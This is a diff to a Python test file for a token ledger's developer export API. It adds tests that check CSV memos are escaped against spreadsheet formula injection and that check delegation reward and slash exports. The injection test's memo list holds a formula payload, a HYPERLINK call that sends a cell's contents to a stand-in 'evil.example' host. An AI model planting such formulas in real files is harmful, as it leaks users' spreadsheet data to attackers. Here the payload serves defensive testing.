@@ -21,6 +21,7 @@ from apps.monitoring.models import CheckerReport
 from ..factories import UserFactory, fund, make_checker, make_node
 from ..marketplace.conftest import clock, online  # noqa: F401
 from ..marketplace.conftest import consensus as node_epoch
+from ..staking.conftest import checker, funded, operator  # noqa: F401
 
 TODAY = timezone.now().date().isoformat()
 
@@ -106,7 +107,7 @@ def test_rental_bills_and_provider_earnings_per_node_and_epoch(clock, genesis): 
 
 
 def test_checker_reports_with_their_marks(genesis):
-    operator = UserFactory()
+    operator = UserFactory()  # noqa: F811  (not the staking fixture)
     node, _ = make_node()
     checkers = [make_checker(operator)[0]] + [make_checker()[0] for _ in range(2)]
     assignment.fix_round(0)
@@ -139,3 +140,43 @@ def test_the_developer_page_form_leads_to_the_download(client, user):
     assert response.status_code == 302
     download = client.get(response["Location"])
     assert json.loads(body(download))[0]["amount_uath"] == ath(2)
+
+
+def test_a_memo_someone_else_wrote_cannot_become_a_spreadsheet_formula(api, user, other_user):
+    # Anyone can send me 1 uATH with a memo of their choosing; opened in a
+    # spreadsheet, a cell starting with = + - @ would run as a formula.
+    from apps.accounts.services import send
+
+    fund(other_user.wallet, ath(1))
+    memos = ['=HYPERLINK("https://evil.example/?"&A1,"refund")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "plain"]
+    for memo in memos:
+        send(other_user, user.wallet.address, 1, memo)
+    statement = rows(api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=csv"))
+    assert [e["memo"] for e in statement] == ["'" + m for m in memos[:-1]] + ["plain"]
+    # Numbers stay numbers, and JSON keeps the memo as it was written.
+    assert all(e["amount_uath"] == "1" for e in statement)
+    as_json = json.loads(body(api.get(f"/api/developer/exports/wallet/?from={TODAY}&to={TODAY}&format=json")))
+    assert [e["memo"] for e in as_json] == memos
+
+
+def test_delegator_rewards_and_slashes(checker, funded):  # noqa: F811
+    from apps.core import ledger
+    from apps.core.models import ModuleAccount
+    from apps.staking import services as staking
+
+    staking.delegate(funded, checker, ath(500), epoch=1)
+    staking.distribute(checker, ath(105), 2, ledger.module_account(ModuleAccount.EMISSION_RESERVE))
+    paid = staking.claim_rewards(funded, checker)
+    staking.slash_checker(checker, 10_000, 2, "self-contradicting report", epoch=3)  # 1%
+    api = APIClient()
+    api.force_authenticate(funded)
+    mine = rows(api.get(f"/api/developer/exports/delegations/?from={TODAY}&to={TODAY}"))
+    assert [(r["type"], r["checker_name"], r["amount_uath"], r["reason"]) for r in mine] == [
+        ("reward", "Alpha", str(paid), ""),
+        ("slash", "Alpha", str(-ath(5)), "self-contradicting report"),
+    ]
+    assert all(r["tx_height"] for r in mine)
+    # Only their own: the operator's share of the slash is in the operator's export.
+    api.force_authenticate(checker.operator)
+    theirs = rows(api.get(f"/api/developer/exports/delegations/?from={TODAY}&to={TODAY}"))
+    assert [(r["type"], r["amount_uath"]) for r in theirs] == [("slash", str(-ath(100)))]
